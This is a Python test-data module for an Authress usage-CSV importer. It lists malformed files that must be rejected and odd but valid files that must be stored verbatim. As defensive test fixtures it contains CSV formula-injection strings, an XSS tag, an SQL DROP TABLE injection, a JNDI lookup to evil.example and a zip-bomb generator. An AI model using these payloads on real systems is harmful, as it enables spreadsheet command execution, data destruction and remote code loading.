"""A corpus of hostile usage CSVs: files that must be refused (naming the line at fault), and
weird files that are valid and must be stored exactly as the rules say.

Dates sit in 2026-03 (in the past at every instant the suite is run at, and inside the
2000-01-01 … one-year-ahead bounds of issue 8 item 2.9). Every file targets an Authress
integration: the Authress portal format, or the Doow export format with `provider` empty or
"authress". Add a file by adding one entry: test_hostile_imports runs each through the upload
page and through `manage.py import_usage`.
"""

from __future__ import annotations

import csv
import gzip
import io
import zipfile
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from decimal import Decimal

from integrations.providers.base import DIMENSIONS, METRICS
from usage.export import CSV_COLUMNS

AUTHRESS = "date,resource,operation,calls"
D1, D2, D3 = "2026-03-01", "2026-03-02", "2026-03-03"
ANY_LINE = -1  # binary junk: a line number must be given, whichever it is


def doow(*rows: dict[str, str], header: tuple[str, ...] = CSV_COLUMNS, end: str = "\n") -> bytes:
    """A Doow-format file: each row a dict of the cells that are not empty."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator=end)
    writer.writerow(header)
    for row in rows:
        writer.writerow([row.get(name, "") for name in header])
    return out.getvalue().encode()


def cell(**cells: str) -> dict[str, str]:
    """A Doow row for 2026-03-01 00:00–01:00 (api_calls, 1), with `cells` replaced."""
    return {
        "bucket_start": f"{D1}T00:00:00Z",
        "bucket_end": f"{D1}T01:00:00Z",
        "metric": "api_calls",
        "quantity": "1",
    } | cells


def authress(*rows: str, end: str = "\n", header: str = AUTHRESS) -> bytes:
    return end.join([header, *rows, ""]).encode()


# ---------------------------------------------------------------- rows as they must be stored
Row = tuple  # (bucket_start, bucket_end, metric, quantity, unit, *dimensions)


def row(start: str, end: str, metric: str, quantity: str, unit: str = "", **dims: str) -> Row:
    def moment(text: str) -> datetime:
        return datetime.fromisoformat(text.replace("Z", "+00:00")).astimezone(UTC)

    return (
        moment(start),
        moment(end),
        metric,
        Decimal(quantity),
        unit or METRICS[metric],
        *(dims.get(d, "") for d in DIMENSIONS),
    )


def day(date: str, calls: str, resource: str = "", operation: str = "") -> Row:
    start = datetime.fromisoformat(date).replace(tzinfo=UTC)
    return row(
        start.isoformat(),
        (start + timedelta(days=1)).isoformat(),
        "api_calls",
        calls,
        resource=resource,
        operation=operation,
    )


# ---------------------------------------------------------------- the corpus
@dataclass(frozen=True)
class Rejected:
    name: str
    data: bytes
    line: int | None  # the first problem's line; None only for whole-file problems
    says: str  # a regular expression its message matches
    fmt: str = "auto"
    # The upload form itself refuses it (a field error, before the importer and its event).
    form_refuses_upload: bool = False


@dataclass(frozen=True)
class Stored:
    name: str
    data: bytes
    rows: frozenset[Row] = field(default_factory=frozenset)
    fmt: str = "auto"


def _zip_bomb() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("usage.csv", b"0" * 20_000_000)  # 20 MB of zeros in ~20 kB
    return out.getvalue()


def _oversized() -> bytes:
    line = f"{D1},/v1/records,GET,1\n".encode()
    return AUTHRESS.encode() + b"\n" + line * (21 * 1024 * 1024 // len(line))


WIDE = ",".join(f"c{i}" for i in range(5000))
LATER = "2099-01-01"

REJECTED: tuple[Rejected, ...] = (
    # -- the header and the shape of the file
    Rejected("header of neither format", b"foo,bar\n1,2\n", 1, r"header not recognised"),
    Rejected("duplicated column", b"date,date,calls\n2026-03-01,2026-03-01,1\n", 1, r"duplicated column"),
    Rejected("5000 unknown columns", f"date,calls,{WIDE}\n".encode(), 1, r"header not recognised"),
    Rejected("a row of 5000 fields", authress(f"{D1},/r,GET,{WIDE}"), 2, r"has 5003 fields; the header has 4"),
    Rejected("empty file", b"", None, r"empty", form_refuses_upload=True),
    Rejected("blank lines only", b"\n \r\n\t\n", None, r"empty"),
    Rejected("header and no rows", authress(), None, r"no data rows"),
    Rejected("a row with too few fields", authress(f"{D1},/r"), 2, r"has 2 fields"),
    Rejected("a row with too many fields", authress(f"{D1},/r,GET,1,extra"), 2, r"has 5 fields"),
    Rejected(
        "an unterminated quote swallowing the rest", authress(f'"{D1},/r,GET,1', f"{D2},/r,GET,2"), 2, r"has 1 fields"
    ),
    Rejected("the header again mid-file", authress(f"{D1},/r,GET,1", AUTHRESS), 3, r"date 'date' is not a date"),
    Rejected(
        "a BOM mid-file (two files concatenated)",
        authress(f"{D1},/r,GET,1", f"\ufeff{D2},/r,GET,2"),
        3,
        r"is not a date",
    ),
    Rejected("a NUL byte", authress(f"{D1},/r\x00x,GET,1"), 2, r"NUL character"),
    Rejected("a field past the CSV reader's limit", authress(f"{D1},{'x' * 200_000},GET,1"), 2, r"unreadable CSV"),
    Rejected(
        "a resource longer than the column", authress(f"{D1},{'r' * 201},GET,1"), 2, r"resource is longer than 200"
    ),
    # -- line numbers that must survive odd line ends and multi-line cells
    Rejected(
        "CR-only line ends, error on line 3", authress(f"{D1},/r,GET,1", f"{D2},/r,GET,x", end="\r"), 3, r"calls 'x'"
    ),
    Rejected(
        "mixed CRLF, CR and LF, error on line 4",
        f"{AUTHRESS}\r\n{D1},/r,GET,1\r{D2},/r,GET,2\n{D3},/r,GET,-1\n".encode(),
        4,
        r"non-negative",
    ),
    Rejected(
        "a multi-line cell, error on the next record",
        authress(f'{D1},"line one\nline two",GET,1', f"{D2},/r,GET,nope"),
        4,
        r"calls 'nope'",
    ),
    # -- numbers
    Rejected("negative calls", authress(f"{D1},/r,GET,-5"), 2, r"not a whole, non-negative number"),
    Rejected("fractional calls", authress(f"{D1},/r,GET,1.5"), 2, r"not a whole, non-negative number"),
    Rejected("a superscript digit", authress(f"{D1},/r,GET,\u00b2"), 2, r"not a number"),
    Rejected("negative quantity", doow(cell(quantity="-5")), 2, r"is negative"),
    Rejected("NaN", doow(cell(quantity="NaN")), 2, r"not a finite number"),
    Rejected("signalling NaN", doow(cell(quantity="sNaN")), 2, r"not a finite number"),
    Rejected("Infinity", doow(cell(quantity="Infinity")), 2, r"not a finite number"),
    Rejected("-inf", doow(cell(quantity="-inf")), 2, r"not a finite number"),
    Rejected("1e400", doow(cell(quantity="1e400")), 2, r"too large"),
    Rejected("ten decimals", doow(cell(quantity="1e-10")), 2, r"more than 9 decimals"),
    Rejected("hexadecimal", doow(cell(quantity="0x1A")), 2, r"not a number"),
    Rejected("a thousands separator", doow(cell(quantity="1,000")), 2, r"not a number"),
    Rejected("an empty quantity", doow(cell(quantity="")), 2, r"not a number"),
    # -- the other Doow columns
    Rejected("unknown metric", doow(cell(metric="tokens")), 2, r"unknown metric 'tokens'"),
    Rejected("a cost without its currency", doow(cell(metric="cost", unit="")), 2, r"currency code"),
    Rejected("a cost in lower-case currency", doow(cell(metric="cost", unit="usd")), 2, r"currency code"),
    Rejected("the wrong unit", doow(cell(unit="tokens")), 2, r"unit 'tokens' is wrong"),
    Rejected("another provider's row", doow(cell(provider="openai")), 2, r"provider 'openai'"),
    Rejected("another integration's row", doow(cell(integration="999999")), 2, r"belongs to integration '999999'"),
    Rejected(
        "a bucket ending before it starts",
        doow(cell(bucket_end=f"{D1}T00:00:00Z", bucket_start=f"{D1}T01:00:00Z")),
        2,
        r"bucket_end is not after bucket_start",
    ),
    Rejected("a time in words", doow(cell(bucket_start="yesterday")), 2, r"not an ISO 8601 time"),
    # -- dates
    Rejected("a date that does not exist", authress("2026-02-30,/r,GET,1"), 2, r"is not a date"),
    Rejected("a date in words", authress("1 March 2026,/r,GET,1"), 2, r"is not a date"),
    Rejected("a date far in the future", authress(f"{LATER},/r,GET,1"), 2, r"future|after"),
    Rejected(
        "a bucket far in the future",
        doow(cell(bucket_start=f"{LATER}T00:00:00Z", bucket_end=f"{LATER}T01:00:00Z")),
        2,
        r"future|after",
    ),
    # -- the same key twice
    Rejected(
        "the same key twice with different values",
        authress(f"{D1},/r,GET,1", f"{D1},/r,GET,9"),
        3,
        r"same bucket, dimensions and metric as line 2",
    ),
    Rejected(
        "the same key twice with the same value",
        authress(f"{D1},/r,GET,1", f"{D1},/r,GET,1"),
        3,
        r"same bucket, dimensions and metric as line 2",
    ),
    Rejected(
        "the same key written two ways",
        doow(cell(), cell(bucket_start=f"{D1}T01:00:00+01:00", quantity="2")),
        3,
        r"same bucket, dimensions and metric as line 2",
    ),
    # -- not UTF-8 text at all
    Rejected("Latin-1", f"{AUTHRESS}\n{D1},Gr\u00fcn,GET,1\n".encode("latin-1"), 2, r"not UTF-8"),
    Rejected("UTF-16 with its BOM", f"{AUTHRESS}\n{D1},/r,GET,1\n".encode("utf-16"), 1, r"not UTF-8"),
    Rejected(
        "an overlong UTF-8 sequence", authress(f"{D1},/r,GET,1") + b"2026-03-02,\xc0\xaf,GET,1\n", 3, r"not UTF-8"
    ),
    Rejected("an encoded surrogate", authress(f"{D1},/r,GET,1") + b"2026-03-02,\xed\xa0\x80,GET,1\n", 3, r"not UTF-8"),
    Rejected("a zip bomb named usage.csv", _zip_bomb(), ANY_LINE, r"not UTF-8"),
    Rejected("a gzip bomb named usage.csv", gzip.compress(b"0" * 20_000_000), ANY_LINE, r"not UTF-8"),
    Rejected("a PNG image", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)), ANY_LINE, r"not UTF-8"),
    Rejected("21 MB of valid rows", _oversized(), None, r"limit is 20 MB"),
)

# Refused once issue 8 item 2.9 (dates from 2000-01-01 to a year ahead) is in: stored today.
REJECTED_ONCE_DATES_ARE_BOUNDED: tuple[Rejected, ...] = (
    Rejected(
        "a bucket in year 1",
        doow(cell(bucket_start="0001-01-01T00:00:00Z", bucket_end="0001-01-01T01:00:00Z")),
        2,
        r".",
    ),
    Rejected("a bucket ending in 9999", doow(cell(bucket_end="9999-12-31T00:00:00Z")), 2, r"."),
    Rejected("a day in 1999", authress("1999-12-31,/r,GET,1"), 2, r"."),
)

FORMULAS = ('=HYPERLINK("http://evil.example","click")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3*cmd|' /C calc'!A0")
MARKUP = (
    "<script>alert(1)</script>",
    "'; DROP TABLE usage_usagerecord; --",
    "{{ 7*7 }}",
    "${jndi:ldap://evil.example/a}",
)

STORED: tuple[Stored, ...] = (
    Stored("a UTF-8 BOM", b"\xef\xbb\xbf" + authress(f"{D1},/r,GET,5"), frozenset({day(D1, "5", "/r", "GET")})),
    Stored(
        "CRLF line ends",
        authress(f"{D1},/r,GET,5", f"{D2},/r,GET,6", end="\r\n"),
        frozenset({day(D1, "5", "/r", "GET"), day(D2, "6", "/r", "GET")}),
    ),
    Stored(
        "CR-only line ends",
        authress(f"{D1},/r,GET,5", f"{D2},/r,GET,6", end="\r"),
        frozenset({day(D1, "5", "/r", "GET"), day(D2, "6", "/r", "GET")}),
    ),
    Stored(
        "a BOM, CRLF and blank lines between rows",
        b"\xef\xbb\xbf" + authress(f"{D1},/r,GET,5", "", " ", f"{D2},/r,GET,6", end="\r\n"),
        frozenset({day(D1, "5", "/r", "GET"), day(D2, "6", "/r", "GET")}),
    ),
    Stored(
        "the header in another case, padded",
        authress(f"{D1},/r,GET,5", header=" DATE , Resource ,OPERATION,  calls "),
        frozenset({day(D1, "5", "/r", "GET")}),
    ),
    Stored(
        "cells padded with spaces (trimmed)",
        authress(f"  {D1} ,  /r  , GET ,  5  "),
        frozenset({day(D1, "5", "/r", "GET")}),
    ),
    *(
        Stored(
            f"{what} (stored as written)",
            doow(*(cell(resource=text, operation=f"op{i}") for i, text in enumerate(texts))),
            frozenset(
                row(f"{D1}T00:00:00Z", f"{D1}T01:00:00Z", "api_calls", "1", resource=text, operation=f"op{i}")
                for i, text in enumerate(texts)
            ),
        )
        for what, texts in (("formula-looking cells", FORMULAS), ("markup and injection strings", MARKUP))
    ),
    Stored(
        "bidi controls, zero-width characters and emoji",
        authress(f"{D1},/r\u202egnp.exe\u202c,GET,1", f"{D1},a\u200bb,GET,2", f"{D1},caf\u00e9 \u2615,GET,3"),
        frozenset(
            {
                day(D1, "1", "/r\u202egnp.exe\u202c", "GET"),
                day(D1, "2", "a\u200bb", "GET"),
                day(D1, "3", "caf\u00e9 \u2615", "GET"),
            }
        ),
    ),
    Stored(
        "a quoted cell with a line break",
        authress(f'{D1},"line one\nline two",GET,1'),
        frozenset({day(D1, "1", "line one\nline two", "GET")}),
    ),
    Stored(
        "times with an offset (converted to UTC)",
        doow(cell(bucket_start=f"{D1}T05:30:00+05:30", bucket_end=f"{D1}T06:30:00+05:30")),
        frozenset({row(f"{D1}T00:00:00Z", f"{D1}T01:00:00Z", "api_calls", "1")}),
    ),
    Stored(
        "a quantity in exponent notation",
        doow(cell(quantity="1.5E+3")),
        frozenset({row(f"{D1}T00:00:00Z", f"{D1}T01:00:00Z", "api_calls", "1500")}),
    ),
    Stored(
        "nine decimals",
        doow(cell(metric="cost", unit="EUR", quantity="0.123456789")),
        frozenset({row(f"{D1}T00:00:00Z", f"{D1}T01:00:00Z", "cost", "0.123456789", "EUR")}),
    ),
    Stored(
        "attribution columns in the file (ignored)",
        doow(cell(application="=EVIL()", license="Stolen plan")),
        frozenset({row(f"{D1}T00:00:00Z", f"{D1}T01:00:00Z", "api_calls", "1")}),
    ),
    Stored(
        "provider and integration cells naming this integration",
        doow(cell(provider="authress")),
        frozenset({row(f"{D1}T00:00:00Z", f"{D1}T01:00:00Z", "api_calls", "1")}),
    ),
)

# Quantities the importer accepts as fitting the store (30 digits, 9 decimals): SQLite keeps
# decimals as 8-byte floats, so these come back rounded (or, at the top, unreadable).
STORED_PRECISELY_ONLY_ON_POSTGRESQL: tuple[Stored, ...] = (
    Stored(
        "eighteen digits and nine decimals",
        doow(cell(quantity="123456789012345678.123456789")),
        frozenset({row(f"{D1}T00:00:00Z", f"{D1}T01:00:00Z", "api_calls", "123456789012345678.123456789")}),
    ),
    Stored(
        "the largest quantity accepted",
        doow(cell(quantity="999999999999999999999.999999999")),
        frozenset({row(f"{D1}T00:00:00Z", f"{D1}T01:00:00Z", "api_calls", "999999999999999999999.999999999")}),
    ),
)
